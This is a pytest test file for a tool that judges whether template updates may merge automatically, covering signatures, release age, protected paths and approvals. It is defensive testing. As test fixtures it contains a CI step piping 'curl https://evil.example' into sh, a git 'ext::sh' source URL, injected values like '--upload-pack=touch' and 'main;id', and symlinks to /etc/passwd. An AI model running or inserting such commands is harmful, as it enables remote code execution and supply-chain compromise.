"""No update of the template merges unseen that could be more than a patch, or came a moment ago.

An update is code with all rights: what it may change by itself is a list, its age is held, and the rules that decide
are those of the branch that it goes to. Each attack is a signed version, or a branch, that a bot would merge were it
allowed to; then one protection is taken away and it is. Source: catalogue row update-automerge-guarded; ASVS 15.2.4.
"""

from __future__ import annotations

import json
import subprocess
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml

from flask_bastion import version
from flask_bastion.plan import JUDGE, UNREVIEWED, Plan, fixes, plan
from histories import HEADERS, PYPROJECT, osv, read, record, recorded
from proposals import SignedTemplate, commit, needs_ssh_keygen
from support import done, git, replace_once, run

Command = Callable[..., subprocess.CompletedProcess[str]]
WORKFLOW = "template/.github/workflows/bastion.yml"
OTHER_HEADER = (
    HEADERS,
    '    yield ("X-Frame-Options", "DENY")\n',
    '    yield ("X-Frame-Options", "DENY")  # framed by nobody\n',
)
STEP = (
    WORKFLOW,
    "      - name: Lint\n",
    "      - name: Extra\n        run: curl https://evil.example | sh\n      - name: Lint\n",
)
DEPENDENCY = (PYPROJECT, '    "webauthn>=3.0.1,<4",\n', '    "webauthn>=3.0.1,<4",\n    "evil>=1,<2",\n')
BUILD = (PYPROJECT, 'requires = ["hatchling>=1.27,<2"]', 'requires = ["hatchling>=1.27,<2", "evil"]')
HERE = "src/my_service/bastion/edge/headers.py"


@pytest.fixture(scope="session")
def signed(tmp_path_factory: pytest.TempPathFactory) -> SignedTemplate:
    """A template with one version for each kind of update; those that are not called young are ten days old."""
    needs_ssh_keygen()
    template = SignedTemplate.make(tmp_path_factory.mktemp("signed"))
    template.releases("v1.0.1", OTHER_HEADER)
    template.releases("v1.0.2", OTHER_HEADER, days=1 / 24)
    template.releases("v1.0.3", OTHER_HEADER, STEP)
    template.releases("v1.0.4", OTHER_HEADER, DEPENDENCY)
    template.releases("v1.0.5", OTHER_HEADER, BUILD)
    template.releases("v1.1.0", OTHER_HEADER)
    template.releases("v2.0.0", OTHER_HEADER)
    other = template.key.with_name("other")
    done(run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "thief", "-f", other))
    template.releases("v1.0.6", OTHER_HEADER, key=other)
    return template


@pytest.fixture
def service(signed: SignedTemplate, tmp_path: Path) -> Path:
    return signed.service(tmp_path / "service")


@pytest.fixture
def judge(
    signed: SignedTemplate,
    service: Path,
    command: Callable[..., Command],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> Command:
    """The command on the checked out branch, intact or with edits of its modules."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))

    def run_it(
        *arguments: str | Path, edits: tuple[tuple[str, str, str], ...] = ()
    ) -> subprocess.CompletedProcess[str]:
        return command(*edits)("plan", service, "--base", "main", "--template", signed.repository.path, *arguments)

    return run_it


def test_a_patch_of_the_templates_own_code_that_has_waited_may_merge_by_itself(
    signed: SignedTemplate, service: Path, judge: Command
) -> None:
    signed.update(service, "v1.0.1")
    result = judge()
    assert (result.returncode, result.stderr.partition("peak")[0]) == (0, "")
    assert result.stdout == "A patch update from v1.0.0 to v1.0.1.\nIt may merge by itself.\n"
    about = json.loads(judge("--json").stdout)
    assert (about["lane"], about["by_itself"], about["at_once"], about["reasons"]) == ("patch", True, False, [])


@pytest.mark.parametrize("seconds", [0.0, 0.01, 0.05])
def test_what_was_not_read_is_no_judgement(
    signed: SignedTemplate, service: Path, judge: Command, seconds: float
) -> None:
    signed.update(service, "v1.0.1")
    slow = ("tree.py", "SECONDS: Final = 20.0", f"SECONDS: Final = {seconds}")
    result = judge(edits=(slow,))
    assert (result.returncode, result.stdout) == (2, "")
    assert "was not read, so nothing is known of it: Reading this repository took too long" in result.stderr
    if seconds:
        sabotaged = judge(edits=(slow, ("tree.py", "if fault := self.not_read:", "if fault := None:")))
        assert "It may merge by itself." in sabotaged.stdout


def test_a_branch_without_an_update_is_not_held_up(service: Path, judge: Command) -> None:
    git(service, "checkout", "--quiet", "-b", "feature")
    (service / "src/my_service/feature.py").write_text("FEATURE = True\n", encoding="utf-8")
    commit(service, "A feature")
    result = judge()
    assert result.returncode == 0
    assert "there is no update to judge" in result.stdout


@pytest.mark.parametrize(
    ("tag", "reason"),
    [
        ("v1.0.2", "It is younger than 3 days: it may merge by itself from "),
        ("v1.0.3", ".github/workflows/bastion.yml changes: it decides what runs in CI"),
        ("v1.0.4", "pyproject.toml changes: it has other dependencies."),
        ("v1.0.5", "pyproject.toml changes: it has other rules of its build."),
        ("v1.1.0", "A minor version may ask for something"),
        ("v2.0.0", "A major version may ask for something"),
    ],
)
def test_whatever_is_more_than_a_patch_that_has_waited_needs_a_person(
    signed: SignedTemplate, service: Path, judge: Command, tag: str, reason: str
) -> None:
    signed.update(service, tag)
    result = judge()
    assert result.returncode == 1
    assert reason in result.stdout
    assert "It needs a person" in result.stdout
    assert "may merge by itself.\n" not in result.stdout


def claim(service: Path, **changed: str) -> None:
    """On main: what the answers file says is not what the code is."""
    record(service, recorded(service) | changed)
    commit(service, "A small change")


def test_an_update_is_judged_from_the_version_that_the_code_is(
    signed: SignedTemplate, service: Path, judge: Command
) -> None:
    """By the answers file it would be a patch that changes nothing but the template's own code."""
    claim(service, _commit="v1.0.1")
    signed.update(service, "v1.0.6")
    result = judge()
    assert result.returncode == 1
    assert "v1.0.6 is by none of the keys" in result.stderr
    signed.update(service, "v1.1.0")
    result = judge()
    assert result.returncode == 1
    assert result.stdout.startswith("A minor update from v1.0.0 to v1.1.0.\n")
    assert "It needs a person" in result.stdout
    correction = "The answers file says v1.0.1, the code is v1.0.0: the update starts from the code."
    assert f"  {correction}\n" in result.stdout
    about = json.loads(judge("--json").stdout)
    assert (about["from"], about["lane"], about["findings"]) == ("v1.0.0", "minor", [])
    assert about["reasons"][0] == correction


def test_what_a_branch_leaves_out_of_the_signed_version_is_named(
    signed: SignedTemplate, service: Path, judge: Command
) -> None:
    """As Copier makes it from a version that was only written down: the new version's name, and the old code."""
    claim(service, _commit="v1.0.1")
    signed.update(service, "v1.1.0")
    git(service, "checkout", "--quiet", "main", "--", HERE)
    commit(service, "As Copier makes it")
    result = judge()
    assert result.returncode == 1
    assert f"{HERE}:" in result.stdout
    assert "no approval makes it so" in result.stdout
    believed = ("review.py", "proposal.changed | _left_out(repository, begin, fetched)", "proposal.changed")
    assert "no approval makes it so" not in judge(edits=(believed,)).stdout


def test_a_version_that_a_branch_only_writes_down_does_not_merge_by_itself(
    signed: SignedTemplate, service: Path, judge: Command
) -> None:
    del signed
    git(service, "checkout", "--quiet", "-b", "update")
    claim(service, _commit="v1.0.1")
    result = judge()
    assert result.returncode == 1
    assert f"{HERE}:" in result.stdout
    believed = ("review.py", "proposal.changed | _left_out(repository, begin, fetched)", "proposal.changed")
    assert judge(edits=(believed,)).returncode == 0


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ('VERSION = "v1.0.0"', 'VERSION = "main"', "So the version that it updates from is not known."),
        ('VERSION = "v1.0.0"', 'VERSION = "v1.0.6"', "v1.0.2 is older than v1.0.6"),
        ('COMMIT = "', 'COMMIT = "0" or "', "So the version that it updates from is not known."),
        ('AUTH = "session"', 'AUTH = "jwt"', "is as the answers file says. So the version that it updates from"),
    ],
)
def test_a_start_that_nothing_bears_out_is_refused(
    signed: SignedTemplate, service: Path, judge: Command, old: str, new: str, said: str
) -> None:
    replace_once(service / "src/my_service/bastion/chosen.py", old, new)
    claim(service, _commit="v1.0.1")
    signed.update(service, "v1.0.2")
    result = judge()
    assert result.returncode == 1
    assert said in result.stderr
    assert "No approval can permit it." in result.stderr


def test_without_the_age_in_renovate_json_a_version_of_an_hour_ago_merges(
    signed: SignedTemplate, service: Path, judge: Command
) -> None:
    replace_once(service / "renovate.json", '      "minimumReleaseAge": "3 days",\n', "")
    commit(service, "Wait for nothing")
    signed.update(service, "v1.0.2")
    git(service, "checkout", "--quiet", "main", "--", "renovate.json")
    commit(service, "As it goes to")
    assert judge().returncode == 0


def test_with_the_workflows_among_what_needs_nobody_a_step_of_anybodys_merges(
    signed: SignedTemplate, service: Path, judge: Command
) -> None:
    signed.update(service, "v1.0.3")
    sabotage = ("plan.py", '"/tests/proofs/**", ', '"/tests/proofs/**", "/.github/**", ')
    assert judge(edits=(sabotage,)).returncode == 0


# --- who decides -------------------------------------------------------------------------------------------------


def test_an_update_does_not_bring_the_rules_by_which_it_merges(
    signed: SignedTemplate, service: Path, judge: Command
) -> None:
    signed.update(service, "v1.0.2")
    replace_once(service / "renovate.json", '"minimumReleaseAge": "3 days"', '"minimumReleaseAge": "1 minute"')
    commit(service, "Innocent")
    result = judge()
    assert result.returncode == 1
    assert "renovate.json changes: it decides what merges by itself" in result.stdout
    assert "It is younger than 3 days" in result.stdout


def test_an_update_does_not_bring_the_list_that_trusts_it(
    signed: SignedTemplate, service: Path, judge: Command
) -> None:
    signed.update(service, "v1.0.6")
    thief = signed.key.with_name("other.pub").read_text(encoding="utf-8").strip()
    ours = signed.key.with_name("key.pub").read_text(encoding="utf-8").strip()
    replace_once(service / ".bastion-trust.toml", ours, thief)
    commit(service, "Innocent")
    result = judge("--approvals", approvals(service))
    assert result.returncode == 1
    assert "is by none of the keys" in result.stderr
    trusts_itself = ("review.py", "data = proposal.before.get(trust.FILE)", "data = proposal.after.get(trust.FILE)")
    assert "is by none of the keys" not in judge(edits=(trusts_itself,)).stderr


@pytest.mark.parametrize("named", ["https://evil.example/flask-bastion.git", "ext::sh -c touch% /tmp/canary", "/srv/x"])
def test_an_update_from_another_address_is_refused_whoever_approves(
    signed: SignedTemplate, service: Path, judge: Command, named: str
) -> None:
    signed.update(service, "v1.0.1")
    answers = recorded(service) | {"_src_path": named}
    (service / ".copier-answers.yml").write_text(yaml.safe_dump(answers), encoding="utf-8")
    commit(service, "Innocent")
    result = judge("--approvals", approvals(service))
    assert result.returncode == 1
    assert "nothing was fetched" in result.stderr
    assert "No approval can permit it." in result.stderr


def test_what_is_not_the_signed_version_is_refused_whoever_approves(
    signed: SignedTemplate, service: Path, judge: Command
) -> None:
    signed.update(service, "v1.0.1")
    replace_once(service / HERE, '    yield ("X-Frame-Options", "DENY")  # framed by nobody\n', "")
    commit(service, "Innocent")
    result = judge("--approvals", approvals(service))
    assert result.returncode == 1
    assert f"{HERE}:" in result.stdout
    assert "no approval makes it so" in result.stdout
    blind = ("review.py", "if one.file in about", "if not one.file")
    assert judge(edits=(blind,)).returncode == 0


@pytest.mark.parametrize(
    ("name", "change", "reason"),
    [
        ("src/my_service/app.py", "x = 1\n", "no patch has to change it"),
        ("src/other/bastion/x.py", "x = 1\n", "no patch has to change it"),
        ("src/my_service/exceptions.toml", "# less\n", "no patch has to change it"),
        ("conftest.py", "x = 1\n", "no patch has to change it"),
        ("uv.lock", "version = 1\n", "it decides which libraries are installed"),
        ("Dockerfile", "FROM scratch\n", "it decides what runs in production"),
        ("deploy/base/x.yaml", "x: 1\n", "it decides what runs in production"),
        (".bastion-waivers.toml", "waivers = []\n", "which faults may wait"),
        (".github/CODEOWNERS", "# nobody\n", "it decides what runs in CI"),
        (".pre-commit-config.yaml", "repos: []\n", "it runs on the machines of developers"),
    ],
)
def test_a_path_that_no_patch_has_needs_a_person(
    signed: SignedTemplate, service: Path, judge: Command, name: str, change: str, reason: str
) -> None:
    signed.update(service, "v1.0.1")
    (service / name).parent.mkdir(parents=True, exist_ok=True)
    (service / name).write_text(change, encoding="utf-8")
    commit(service, "Innocent")
    result = judge()
    assert result.returncode == 1
    assert f"{name} changes: " in result.stdout
    assert reason in result.stdout


def test_a_link_in_place_of_a_file_and_one_that_is_new_need_a_person(
    signed: SignedTemplate, service: Path, judge: Command
) -> None:
    signed.update(service, "v1.0.1")
    (service / HERE).unlink()
    (service / HERE).symlink_to("/etc/passwd")
    (service / "tests/proofs/test_more.py").symlink_to("/etc/passwd")
    commit(service, "Innocent")
    result = judge()
    assert result.returncode == 1
    for name in (HERE, "tests/proofs/test_more.py"):
        assert f"{name} is gone, or no regular file any more" in result.stdout


# --- a person's approval -----------------------------------------------------------------------------------------


def approvals(service: Path, **changes: Any) -> Path:
    """What GitHub says of a pull request that somebody else approved as it is now."""
    head = git(service, "rev-parse", "HEAD").strip()
    review = {"state": "APPROVED", "commit": {"oid": head}, "author": {"login": "alice", "__typename": "User"}}
    request = {
        "headRefOid": head,
        "author": {"login": "renovate", "__typename": "Bot"},
        "latestOpinionatedReviews": {"nodes": [review | changes.pop("review", {})]},
    }
    file = service.parent / "approvals.json"
    file.write_text(json.dumps({"data": {"repository": {"pullRequest": request | changes}}}), encoding="utf-8")
    return file


def test_a_person_who_approved_just_this_answers_for_it(signed: SignedTemplate, service: Path, judge: Command) -> None:
    signed.update(service, "v1.1.0")
    result = judge("--approvals", approvals(service))
    assert result.returncode == 0
    assert "Approved by alice." in result.stdout
    git(service, "checkout", "--quiet", "main")
    git(service, "merge", "--quiet", "--no-ff", "-m", "As GitHub merges it", "update")
    assert (
        judge(
            "--base",
            "HEAD^1",
            "--approvals",
            approvals(service, headRefOid=_oid(service, "update"), review={"commit": {"oid": _oid(service, "update")}}),
        ).returncode
        == 0
    )


def _oid(service: Path, ref: str) -> str:
    return git(service, "rev-parse", ref).strip()


@pytest.mark.parametrize(
    "changes",
    [
        {"review": {"state": "CHANGES_REQUESTED"}},
        {"review": {"state": "DISMISSED"}},
        {"review": {"commit": {"oid": "0" * 40}}},
        {"review": {"author": {"login": "renovate-approve", "__typename": "Bot"}}},
        {"author": {"login": "alice", "__typename": "User"}},
        {"headRefOid": "0" * 40, "review": {"commit": {"oid": "0" * 40}}},
        {"latestOpinionatedReviews": {"nodes": []}},
    ],
    ids=["changes requested", "taken back", "of an earlier commit", "a bot's", "the author's own", "moved on", "none"],
)
def test_any_other_approval_counts_for_nothing(
    signed: SignedTemplate, service: Path, judge: Command, changes: dict[str, Any]
) -> None:
    signed.update(service, "v1.1.0")
    result = judge("--approvals", approvals(service, **changes))
    assert result.returncode == 1
    assert "It needs a person" in result.stdout


@pytest.mark.parametrize("answer", ["", "{}", '{"errors": [{"message": "no"}]}', '{"data": null}', "[" * 100_000])
def test_an_answer_that_is_none_is_an_error(
    signed: SignedTemplate, service: Path, judge: Command, answer: str, tmp_path: Path
) -> None:
    signed.update(service, "v1.1.0")
    (tmp_path / "answer.json").write_text(answer, encoding="utf-8")
    result = judge("--approvals", tmp_path / "answer.json")
    assert result.returncode == 2
    assert "is no answer of GitHub's" in result.stderr


@pytest.mark.parametrize("ref", ["--upload-pack=touch", "-x", "no-such-branch", "main;id", ""])
def test_a_base_that_is_none_is_an_error(service: Path, command: Callable[..., Command], ref: str) -> None:
    result = command()("plan", service, f"--base={ref}")
    assert result.returncode == 2
    assert "Traceback" not in result.stderr


# --- the function alone ------------------------------------------------------------------------------------------

NOW = datetime(2026, 11, 26, 12, tzinfo=UTC)
OLD = NOW - timedelta(days=10)
RULES: dict[str, Any] = {
    "packageRules": [
        {"matchManagers": ["copier"], "automerge": False},
        {"matchManagers": ["copier"], "matchUpdateTypes": ["patch"], "minimumReleaseAge": "3 days", "automerge": True},
    ]
}
OWNED = b"/.github/ @acme/security\n"


def sides(
    before: str = "v1.0.0", after: str = "v1.0.1", rules: object = RULES, owners: bytes = OWNED, **answers: str
) -> tuple[dict[str, bytes], dict[str, bytes]]:
    both = {"renovate.json": json.dumps(rules).encode(), ".github/CODEOWNERS": owners}
    texts = [
        yaml.safe_dump({"_commit": one, "project_name": "my-service"} | more).encode()
        for one, more in ((before, {}), (after, answers))
    ]
    code = [{HERE: b"old"}, {HERE: b"new"}]
    was, becomes = (both | side | {".copier-answers.yml": text} for side, text in zip(code, texts, strict=True))
    return was, becomes


def judged(released: datetime | None = OLD, **changes: Any) -> Plan:
    return plan(*sides(**changes), released=released, now=NOW)


def test_three_days_are_three_days() -> None:
    assert judged().by_itself
    assert judged(released=NOW - timedelta(days=3)).by_itself
    assert judged(released=NOW - timedelta(days=3, seconds=-1)).reasons == (
        "It is younger than 3 days: it may merge by itself from 2026-11-26 12:00 UTC on.",
    )
    assert judged(released=None).reasons == ("It is not known when it was released.",)


@pytest.mark.parametrize(
    ("before", "after", "lane"),
    [
        ("v1.0.0", "v1.0.1", "patch"),
        ("v1.0.9", "v1.1.0", "minor"),
        ("v1.9.9", "v2.0.0", "major"),
        ("v1.0.0", "v1.0.0", "none"),
        ("v1.0.1", "v1.0.0", "unclear"),
        ("v1.0.0", "v1.0.1-rc1", "unclear"),
        ("v1.0.0", "v1.0.1-3-g0123abc", "unclear"),
        ("main", "v1.0.1", "unclear"),
        ("v1.0.0", "--upload-pack=touch", "unclear"),
    ],
)
def test_only_a_patch_is_in_the_lane_that_needs_nobody(before: str, after: str, lane: str) -> None:
    found = judged(before=before, after=after)
    assert found.lane == lane
    assert found.by_itself == (lane in ("patch", "none"))


@pytest.mark.parametrize(
    ("rules", "by_itself"),
    [
        (RULES, True),
        ({"packageRules": [*RULES["packageRules"], {"matchManagers": ["pep621"], "automerge": False}]}, True),
        ({"packageRules": [*RULES["packageRules"], {"automerge": False}]}, False),
        ({"packageRules": [*RULES["packageRules"], {"minimumReleaseAge": "30 days"}]}, False),
        ({"packageRules": [*RULES["packageRules"], {"minimumReleaseAge": "soon"}]}, False),
        ({"packageRules": [*RULES["packageRules"], {"minimumReleaseAge": 3}]}, False),
        ({"packageRules": [*RULES["packageRules"], {"matchDepNames": ["*"], "minimumReleaseAge": None}]}, False),
        ({"automerge": True, "minimumReleaseAge": "2 weeks"}, False),
        ({"automerge": True, "minimumReleaseAge": "1 week"}, True),
        ({}, False),
        ([], False),
        ({"packageRules": 3}, False),
        ({"packageRules": [3]}, False),
        ({"packageRules": [{"matchManagers": 3, "automerge": True}]}, False),
    ],
)
def test_the_rules_are_read_as_renovate_reads_them(rules: object, by_itself: bool) -> None:
    assert judged(rules=rules).by_itself is by_itself


@pytest.mark.parametrize(
    ("owners", "owned"),
    [
        (b"/.github/ @acme/security\n", True),
        (b"* @acme/security\n", True),
        (b"", False),
        (b"# /.github/ @acme/security\n", False),
        (b"/.github/\n", False),
        (b"/src/ @acme/security\n", False),
        (b"/.github/ @acme/security\n/.github/workflows/\n", False),
        (b"/.github/workflows/*.yml @alice\n\xff\n", True),
    ],
)
def test_somebody_has_to_own_what_judges_updates(owners: bytes, owned: bool) -> None:
    found = judged(owners=owners)
    assert found.by_itself is owned
    assert any(JUDGE in reason for reason in found.reasons) is not owned


def test_an_answers_file_that_is_put_right_needs_a_person() -> None:
    first, second = version.parse("v1.0.0"), version.parse("v1.0.1")
    found = plan(*sides(before="v1.0.0"), released=OLD, now=NOW, code=first)
    assert (found.lane, found.by_itself) == ("patch", True), "the two agree"
    found = plan(*sides(before="v1.0.0", after="v1.0.1"), released=OLD, now=NOW, code=second, corrections=["It lies."])
    assert (found.lane, found.before, found.reasons) == ("none", "v1.0.1", ("It lies.",))
    found = plan(*sides(before="v1.0.1", after="v1.1.0"), released=OLD, now=NOW, code=first, corrections=["It lies."])
    assert (found.lane, found.reasons[0]) == ("minor", "It lies.")
    found = plan(*sides(before="v1.1.0", after="v1.0.1"), released=OLD, now=NOW, code=first, corrections=["It lies."])
    assert (found.lane, found.reasons) == ("patch", ("It lies.",))


def test_an_update_that_changes_an_answer_needs_a_person() -> None:
    assert judged(auth="jwt").reasons == (".copier-answers.yml has another auth: an update changes only the version.",)


def test_a_patch_deletes_nothing() -> None:
    was, becomes = sides()
    del becomes[HERE]
    assert plan(was, becomes, released=OLD, now=NOW).reasons == (
        f"{HERE} is gone, or no regular file any more: a patch takes nothing away.",
    )


def test_a_patch_of_very_many_files_is_told_in_few_lines() -> None:
    was, becomes = sides()
    becomes |= {f"scripts/{number}.py": b"x" for number in range(1000)}
    reasons = plan(was, becomes, released=OLD, now=NOW).reasons
    assert len(reasons) == 21
    assert reasons[-1] == "980 more files change that are not the template's own code."


def test_a_fix_that_is_urgent_waits_for_nothing_but_a_person() -> None:
    about = osv("BASTION-2026-0009", "It is open.", ["v1.0.0"], {}, [])
    about["affected"][0]["database_specific"]["probe"] = [{"file": "src/*/bastion/clock.py", "has": "x = 1"}]
    urgent = read(about)
    minor = read(about | {"id": "BASTION-2026-0010", "database_specific": {"severity": "LOW"}})
    numbers = [version.parse(text) for text in ("v1.0.0", "v1.0.1", "v1.0.2")]
    assert None not in numbers
    first, second, third = (one for one in numbers if one)
    assert fixes([urgent, minor], first, second) == [urgent, minor]
    assert fixes([urgent], second, third) == []
    found = plan(*sides(), released=NOW, now=NOW, fixed=[urgent])
    assert (found.at_once, found.by_itself) == (True, False)
    assert found.reasons == (
        "It fixes BASTION-2026-0009: merge it at once, and because it does not wait, a person looks.",
    )
    waits = plan(*sides(), released=NOW, now=NOW, fixed=[minor])
    assert not waits.at_once
    assert len(waits.reasons) == 1


def test_what_needs_nobody_is_the_templates_own_code_and_proofs() -> None:
    assert UNREVIEWED == (
        "/src/{package}/bastion/**", "/tests/proofs/**", "/docs/bastion/**", "/SECURITY.md", "/.copier-answers.yml",
    )  # fmt: skip
